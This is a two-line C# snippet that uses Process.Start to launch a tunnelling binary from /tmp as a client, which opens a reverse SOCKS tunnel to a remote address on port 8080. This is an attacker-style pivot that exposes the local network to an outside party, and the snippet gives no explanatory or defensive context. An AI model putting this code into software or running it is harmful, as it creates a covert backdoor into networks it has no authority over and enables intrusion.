using System.Diagnostics;
Process.Start("/tmp/chisel", "client 192.0.2.7:8080 R:socks");
